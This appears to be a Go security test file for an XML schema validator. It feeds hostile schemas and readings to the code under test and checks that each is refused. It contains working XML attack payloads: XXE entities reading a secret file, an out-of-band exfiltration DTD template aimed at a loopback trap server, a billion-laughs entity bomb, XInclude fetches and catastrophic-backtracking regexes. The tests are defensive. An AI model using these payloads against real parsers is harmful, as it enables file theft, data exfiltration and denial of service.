package xsd

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/iotgate/iotgate/schemas/examples"
)

// trap is what hostile documents try to reach: a loopback HTTP server that
// must receive nothing, a file whose secret must never be read, and a named
// pipe that would reveal (and, unwatched, block) any attempt to open it.
type trap struct {
	url    string // base URL of the HTTP server
	secret string // content of the secret file
	file   string // path of the secret file
	fifo   string // path of the named pipe
	hits   atomic.Int64
	paths  sync.Map
	// mu is held by the pipe watcher around each probe, so that a reader
	// its probe released cannot observe opened before it is set.
	mu     sync.Mutex
	opened bool
}

func (tr *trap) pipeOpened() bool {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return tr.opened
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	tr := &trap{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tr.hits.Add(1)
		tr.paths.Store(r.URL.String(), true)
		// Serve something an XXE would love to get, in case it comes.
		io.WriteString(w, `<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1/?%file;'>">%all;`)
	}))
	t.Cleanup(srv.Close)
	tr.url = srv.URL

	dir := t.TempDir()
	rnd := make([]byte, 8)
	rand.Read(rnd)
	tr.secret = "IOTGATE-SECRET-" + hex.EncodeToString(rnd)
	tr.file = filepath.Join(dir, "secret.txt")
	if err := os.WriteFile(tr.file, []byte(tr.secret), 0o600); err != nil {
		t.Fatal(err)
	}
	tr.fifo = filepath.Join(dir, "pipe")
	if err := syscall.Mkfifo(tr.fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	// A non-blocking open for writing succeeds only while someone has the
	// pipe open (or is opening it) for reading: that is the detector.
	// Opening and closing it also releases such a reader with EOF.
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			tr.mu.Lock()
			fd, err := syscall.Open(tr.fifo, syscall.O_WRONLY|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
			if err == nil {
				tr.opened = true
				syscall.Close(fd)
			}
			tr.mu.Unlock()
			time.Sleep(200 * time.Microsecond)
		}
	}()
	t.Cleanup(func() { close(stop); <-done })
	return tr
}

// expand fills the SRV, SEC and FIFO placeholders of a hostile template.
func (tr *trap) expand(s string) string {
	return strings.NewReplacer("SRV", tr.url, "SEC", tr.file, "FIFO", tr.fifo).Replace(s)
}

// check asserts nothing reached the trap and the secret appears nowhere.
func (tr *trap) check(t *testing.T, outputs ...any) {
	t.Helper()
	if n := tr.hits.Load(); n != 0 {
		var paths []string
		tr.paths.Range(func(k, _ any) bool { paths = append(paths, k.(string)); return true })
		t.Errorf("HTTP server received %d request(s): %v", n, paths)
	}
	if tr.pipeOpened() {
		t.Error("the named pipe was opened")
	}
	for _, o := range outputs {
		var s string
		if err, ok := o.(error); ok && err != nil {
			var ce *CompileError
			var ve *ValidationError
			switch {
			case errors.As(err, &ce):
				s = fmt.Sprintf("%v %+v", err, ce.Issues)
			case errors.As(err, &ve):
				s = fmt.Sprintf("%v %+v", err, ve.Issues)
			default:
				s = err.Error()
			}
		} else {
			s = fmt.Sprintf("%v", o)
		}
		if strings.Contains(s, tr.secret) {
			t.Errorf("the secret leaked into %q", s)
		}
	}
}

// within runs f, failing the test if it takes longer than d (a blocked
// open of the named pipe, an entity expansion...).
func within(t *testing.T, d time.Duration, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("still running after %v", d)
	}
}

const xsOpen = `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:h" xmlns="urn:h" elementFormDefault="qualified">`
const xsBody = `<xs:element name="r" type="xs:string"/></xs:schema>`

const laughs = `<!DOCTYPE lolz [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
`

// TestHostileSchemas feeds schemas that try to reach the network, read
// files, or blow up, and checks Compile refuses them without touching
// anything.
func TestHostileSchemas(t *testing.T) {
	tr := newTrap(t)
	evil := map[string]string{
		// Schemas a compromised registry entry could hold.
		"urn:evil-doctype": `<!DOCTYPE xs:schema [<!ENTITY % p SYSTEM "SRV/imported-pe">%p;]>` +
			`<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:evil-doctype"/>`,
		"urn:evil-include": `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:evil-include">` +
			`<xs:include schemaLocation="SRV/imported-include.xsd"/></xs:schema>`,
		"urn:evil-import": `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:evil-import">` +
			`<xs:import namespace="urn:unknown" schemaLocation="SRV/imported-import.xsd"/>` +
			`<xs:import namespace="urn:unknown2" schemaLocation="file://SEC"/></xs:schema>`,
	}
	imports := func(ns string) ([]byte, bool) {
		if s, ok := evil[ns]; ok {
			return []byte(tr.expand(s)), true
		}
		return examples.ByNamespace(ns)
	}

	for _, tc := range []struct {
		name   string
		src    string
		wantOK bool
	}{
		{"IncludeHTTP", xsOpen + `<xs:include schemaLocation="SRV/include.xsd"/>` + xsBody, false},
		{"IncludeFile", xsOpen + `<xs:include schemaLocation="file://SEC"/>` + xsBody, false},
		{"IncludeFIFO", xsOpen + `<xs:include schemaLocation="FIFO"/>` + xsBody, false},
		{"RedefineHTTP", xsOpen + `<xs:redefine schemaLocation="SRV/redefine.xsd"/>` + xsBody, false},
		{"RedefineFile", xsOpen + `<xs:redefine schemaLocation="SEC"/>` + xsBody, false},
		{"OverrideHTTP", xsOpen + `<xs:override schemaLocation="SRV/override.xsd"/>` + xsBody, false},
		{"ImportUnknownHTTP", xsOpen + `<xs:import namespace="urn:x" schemaLocation="SRV/import.xsd"/>` + xsBody, false},
		{"ImportUnknownFile", xsOpen + `<xs:import namespace="urn:x" schemaLocation="file://SEC"/>` + xsBody, false},
		{"ImportNoNamespaceFIFO", xsOpen + `<xs:import schemaLocation="FIFO"/>` + xsBody, false},
		{"ImportKnownIgnoresLocation", xsOpen + `<xs:import namespace="urn:example:thermostat" schemaLocation="SRV/thermostat.xsd"/>` + xsBody, true},
		{"ImportedDoctype", xsOpen + `<xs:import namespace="urn:evil-doctype"/>` + xsBody, false},
		{"ImportedInclude", xsOpen + `<xs:import namespace="urn:evil-include"/>` + xsBody, false},
		{"ImportedImport", xsOpen + `<xs:import namespace="urn:evil-import"/>` + xsBody, false},
		{"DoctypeFileEntity", `<!DOCTYPE xs:schema [<!ENTITY e SYSTEM "file://SEC">]>` + xsOpen +
			`<xs:annotation><xs:documentation>&e;</xs:documentation></xs:annotation>` + xsBody, false},
		{"DoctypeHTTPEntity", `<!DOCTYPE xs:schema [<!ENTITY e SYSTEM "SRV/entity">]>` + xsOpen +
			`<xs:element name="r" fixed="&e;" type="xs:string"/></xs:schema>`, false},
		{"DoctypeFIFOEntity", `<!DOCTYPE xs:schema [<!ENTITY e SYSTEM "FIFO">]>` + xsOpen +
			`<xs:element name="r" fixed="&e;" type="xs:string"/></xs:schema>`, false},
		{"DoctypeParameterEntityOOB", `<!DOCTYPE xs:schema [<!ENTITY % file SYSTEM "file://SEC"><!ENTITY % dtd SYSTEM "SRV/evil.dtd">%dtd;%all;]>` +
			xsOpen + `<xs:element name="r" fixed="&send;"/></xs:schema>`, false},
		{"DoctypeExternalSubset", `<!DOCTYPE xs:schema SYSTEM "SRV/schema.dtd">` + xsOpen + xsBody, false},
		{"DoctypePublicSubset", `<!DOCTYPE xs:schema PUBLIC "-//W3C//DTD XMLSCHEMA 200102//EN" "SRV/XMLSchema.dtd">` + xsOpen + xsBody, false},
		{"BillionLaughs", laughs + xsOpen + `<xs:element name="r" fixed="&lol9;"/></xs:schema>`, false},
		{"XInclude", xsOpen + `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="SRV/xinclude.xml"/>` + xsBody, false},
		{"XIncludeFile", xsOpen + `<xs:annotation><xs:appinfo><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://SEC" parse="text"/></xs:appinfo></xs:annotation>` + xsBody, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var s *Schema
			var err error
			within(t, 10*time.Second, func() {
				s, err = Compile([]byte(tr.expand(tc.src)), CompileOptions{Imports: imports})
			})
			if s != nil {
				defer s.Free()
			}
			tr.check(t, err)
			switch {
			case tc.wantOK && err != nil:
				t.Errorf("Compile: %v", err)
			case !tc.wantOK && err == nil:
				t.Error("Compile succeeded, want a refusal")
			case !tc.wantOK:
				compileIssuesOf(t, err)
			}
		})
	}
}

// TestHostileReadings feeds readings that try the same, through Validate,
// ValidateAndRender and Render.
func TestHostileReadings(t *testing.T) {
	tr := newTrap(t)
	s := mustCompile(t, examples.Thermostat(), CompileOptions{})
	const body = `<reading xmlns="urn:example:thermostat"><temperature>20</temperature><mode>heat</mode></reading>`
	const withEntity = `<reading xmlns="urn:example:thermostat"><temperature>20</temperature><mode>&e;</mode></reading>`
	for _, tc := range []struct {
		name   string
		doc    string
		wantOK bool
	}{
		{"DoctypeFileEntity", `<!DOCTYPE reading [<!ENTITY e SYSTEM "file://SEC">]>` + withEntity, false},
		{"DoctypeHTTPEntity", `<!DOCTYPE reading [<!ENTITY e SYSTEM "SRV/entity">]>` + withEntity, false},
		{"DoctypeFIFOEntity", `<!DOCTYPE reading [<!ENTITY e SYSTEM "FIFO">]>` + withEntity, false},
		{"ParameterEntityOOB", `<!DOCTYPE reading [<!ENTITY % file SYSTEM "file://SEC"><!ENTITY % dtd SYSTEM "SRV/evil.dtd">%dtd;%all;]>` +
			strings.Replace(withEntity, "&e;", "&send;", 1), false},
		{"ParameterEntityFile", `<!DOCTYPE reading [<!ENTITY % p SYSTEM "file://SEC">%p;]>` + body, false},
		{"ExternalSubset", `<!DOCTYPE reading SYSTEM "SRV/reading.dtd">` + body, false},
		{"ExternalSubsetFile", `<!DOCTYPE reading SYSTEM "file://SEC">` + body, false},
		{"BillionLaughs", laughs + strings.Replace(withEntity, "&e;", "&lol9;", 1), false},
		{"UndefinedEntity", withEntity, false},
		{"XInclude", `<reading xmlns="urn:example:thermostat" xmlns:xi="http://www.w3.org/2001/XInclude"><temperature>20</temperature><mode>heat</mode>` +
			`<xi:include href="file://SEC" parse="text"/></reading>`, false},
		{"XsiSchemaLocationIgnored", `<reading xmlns="urn:example:thermostat" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ` +
			`xsi:schemaLocation="urn:example:thermostat SRV/thermostat.xsd" xsi:noNamespaceSchemaLocation="file://SEC">` +
			`<temperature>20</temperature><mode>heat</mode></reading>`, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			doc := []byte(tr.expand(tc.doc))
			var verr, rerr, vrerr error
			var rendered map[string]any
			var vrendered json.RawMessage
			within(t, 10*time.Second, func() {
				verr = s.Validate(doc, Limits{})
				vrendered, vrerr = s.ValidateAndRender(doc, Limits{})
				rendered, rerr = s.Render(doc)
			})
			tr.check(t, verr, vrerr, rerr, rendered, string(vrendered))
			if tc.wantOK {
				if verr != nil || vrerr != nil || rerr != nil {
					t.Errorf("Validate: %v; ValidateAndRender: %v; Render: %v", verr, vrerr, rerr)
				}
				return
			}
			validationIssuesOf(t, verr)
			validationIssuesOf(t, vrerr)
			if strings.Contains(tc.doc, "DOCTYPE") {
				validationIssuesOf(t, rerr) // Render refuses DOCTYPEs too
			}
		})
	}
}

// TestTrapIsLive is the control for the hostile tests: the detectors do
// detect, and (when xmllint is installed) the same payloads do reach the
// trap through libxml2 used without our protections.
func TestTrapIsLive(t *testing.T) {
	t.Run("HTTP", func(t *testing.T) {
		tr := newTrap(t)
		resp, err := http.Get(tr.url + "/probe")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if tr.hits.Load() != 1 {
			t.Errorf("hits = %d, want 1", tr.hits.Load())
		}
	})
	t.Run("FIFO", func(t *testing.T) {
		tr := newTrap(t)
		within(t, 5*time.Second, func() {
			f, err := os.Open(tr.fifo) // blocks until the watcher opens it for writing
			if err != nil {
				t.Error(err)
				return
			}
			f.Close()
		})
		if !tr.pipeOpened() {
			t.Error("opening the named pipe was not detected")
		}
	})
	t.Run("UnprotectedLibxml2", func(t *testing.T) {
		xmllint, err := exec.LookPath("xmllint")
		if err != nil {
			t.Skip("xmllint not installed (Debian package libxml2-utils)")
		}
		tr := newTrap(t)
		dir := t.TempDir()
		xsdPath := filepath.Join(dir, "evil.xsd")
		docPath := filepath.Join(dir, "doc.xml")
		os.WriteFile(xsdPath, []byte(tr.expand(xsOpen+`<xs:include schemaLocation="SRV/include.xsd"/>`+xsBody)), 0o600)
		os.WriteFile(docPath, []byte(tr.expand(`<!DOCTYPE r [<!ENTITY e SYSTEM "file://SEC">]><r xmlns="urn:h">&e;</r>`)), 0o600)
		out, _ := exec.Command(xmllint, "--noout", "--schema", xsdPath, docPath).CombinedOutput()
		if tr.hits.Load() == 0 {
			t.Errorf("xs:include did not reach the server: %s", out)
		}
		out, _ = exec.Command(xmllint, "--noent", docPath).CombinedOutput()
		if !strings.Contains(string(out), tr.secret) {
			t.Errorf("the external entity did not read the secret: %s", out)
		}
	})
}

// TestHostilePatternValues feeds 2 KiB values to patterns that backtrack
// badly (12-30 s each in libxml2 at that length), compiled without the
// probe as if it had missed them: the length limit refuses each before
// libxml2 matches it, at once.
func TestHostilePatternValues(t *testing.T) {
	for _, p := range []string{`Za*a*a*b`, `ID-\w*\w*\w*;`, `(a*b)?ID-\w*\w*\w*\w*;`, `X[a-z]*[a-z]*[a-z]*[a-z]*[a-z]*[a-z]*0`, `X(a|aa)*b`} {
		t.Run(p, func(t *testing.T) {
			s, err := compile(context.Background(), []byte(xsOpen+`<xs:simpleType name="P"><xs:restriction base="xs:string"><xs:pattern value="`+p+`"/></xs:restriction></xs:simpleType>`+
				`<xs:element name="v" type="P"/><xs:element name="w"><xs:complexType><xs:attribute name="a" type="P"/></xs:complexType></xs:element></xs:schema>`), CompileOptions{}, false)
			if err != nil {
				t.Fatal(err)
			}
			defer s.Free()
			value := strings.Repeat("a", 2048) + "!"
			for _, doc := range []string{`<v xmlns="urn:h">` + value + `</v>`, `<w xmlns="urn:h" a="` + value + `"/>`} {
				var err error
				within(t, time.Second, func() { err = s.Validate([]byte(doc), Limits{}) })
				var ve *ValidationError
				if !errors.As(err, &ve) || ve.Detail != DetailPatternValue {
					t.Errorf("err = %v, want detail %s", err, DetailPatternValue)
				}
			}
		})
	}
}
